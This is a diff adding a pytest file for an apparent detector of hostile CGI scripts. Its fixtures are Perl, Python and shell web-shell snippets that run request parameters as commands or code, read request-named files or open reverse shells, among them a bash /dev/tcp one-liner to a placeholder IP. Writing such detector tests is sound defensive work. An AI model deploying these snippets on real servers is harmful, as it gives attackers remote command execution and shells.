@@ -1,0 +1,50 @@
+from collections.abc import Callable, Iterator
+
+import pytest
+
+from codered.detect.scripts.cgi.reading import read_perl, read_python, read_shell
+from codered.detect.scripts.facts import Fact, Script
+from codered.model.indicators import ScriptLanguage
+
+PERL = {
+    "backticks": ("my $q = $ENV{'QUERY_STRING'}; print `$q`;", "runs-request-command"),
+    "pipe": ('use CGI; $p{c} = param("c"); open(F, "$p{c}|");', "runs-request-command"),
+    "own parser": (
+        (
+            "sub get { read(STDIN, $in, $ENV{'CONTENT_LENGTH'}); foreach $pair (split(/&/, $in)) "
+            "{ ($n, $v) = split(/=/, $pair); $form{$n} = $v; } } get(); system($form{c});"
+        ),
+        "runs-request-command",
+    ),
+    "back": ('socket(S, 1, 1, 1); open(STDIN, ">&S"); exec("/bin/sh");', "connects-back"),
+    "here": ("print <<E;\nit's\nE\neval($ENV{'HTTP_X'});", "runs-request-code"),
+}
+PYTHON = {
+    "form": ('import cgi\nf = cgi.FieldStorage()\nos.system(f.getvalue("c"))', "runs-request-command"),
+    "function": ("def run(c):\n    return os.popen(c)\nx = request.args\nrun(x)", "runs-request-command"),
+    "back": ('s = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh"])', "connects-back"),
+    "received": ("while 1:\n  c = s.recv(9)\n  os.popen(c)", "connects-back"),
+}
+SHELL = {
+    "eval": ('a="$QUERY_STRING"\neval "$a"', "runs-request-command"),
+    "shown": ("cat $QUERY_STRING", "reads-request-file"),
+    "back": ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "connects-back"),
+}
+CASES: list[tuple[Callable[[Script], Iterator[Fact]], ScriptLanguage, str, str]] = [
+    *((read_perl, "perl", "exit 0;\n" + text, fact) for text, fact in PERL.values()),
+    *((read_python, "python", "raise SystemExit\n" + text, fact) for text, fact in PYTHON.values()),
+    *((read_shell, "shell", "exit 0\n" + text, fact) for text, fact in SHELL.values()),
+]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[*PERL, *PYTHON, *SHELL])
+def test_flows_are_found(case: tuple[Callable[[Script], Iterator[Fact]], ScriptLanguage, str, str]) -> None:
+    reader, language, text, fact = case
+    assert fact in {found.name for found in reader(Script(language, text))}
+
+
+def test_ordinary_programs_give_no_flow() -> None:
+    found = {fact.name for fact in read_perl(Script("perl", "system($ARGV[0]); open(STDOUT, '>&LOG'); socket(S);"))}
+    found |= {fact.name for fact in read_python(Script("python", "n = int(request.args)\nos.system(n)\n"))}
+    found |= {fact.name for fact in read_shell(Script("shell", 'echo "$QUERY_STRING"\nnc -z host 80\n'))}
+    assert found <= {"tiny", "runs-commands"}
